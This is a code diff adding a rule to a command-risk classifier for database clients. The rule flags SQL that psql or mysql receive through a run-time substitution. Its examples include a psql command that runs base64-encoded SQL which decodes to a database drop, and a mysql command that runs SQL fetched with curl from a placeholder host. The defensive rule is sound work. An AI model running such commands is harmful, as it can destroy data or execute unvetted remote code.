@@ -1,6 +1,6 @@
 /** Database clients: SQL graded by its parsed effect (sql/), Redis and MongoDB by their commands. */
 import type { RiskRule } from '../rule.js';
-import { not, path, re } from '../dsl.js';
+import { not, path, re, substituted } from '../dsl.js';
 import { SQL_CLIENTS as SQL_CLIENT_TABLE } from '../../sql/extract.js';
 
 /** Every client whose SQL sql/extract.ts reads (a read-only effect exists only where SQL was found). */
@@ -12,6 +12,22 @@ const SESSION_CLIENTS = Object.entries(SQL_CLIENT_TABLE)
 const DB_CLIENTS = [...SESSION_CLIENTS, 'redis-cli', 'valkey-cli', 'mongosh', 'mongo'];
 
 export const databaseRules: RiskRule[] = [
+  {
+    id: 'sql.computed-text',
+    category: 'database',
+    tier: 'high',
+    reason:
+      'Runs SQL that a substitution computes when the command runs (decoded, fetched or built): what it does is not known before',
+    match: {
+      program: SQL_CLIENTS,
+      flagValue: { flags: ['-c', '--command', '-e', '--execute', '-q', '--query'], test: substituted },
+    },
+    examples: [
+      'psql -c "$(echo RFJPUCBEQVRBQkFTRSBhcHA= | base64 -d)"',
+      'mysql -e "$(curl -s https://x.example/q.sql)"',
+    ],
+    counterExamples: ['psql -c "SELECT 1"', 'psql -c "SELECT * FROM t WHERE id = $ID"'],
+  },
   {
     id: 'sql.read-only',
     category: 'database',
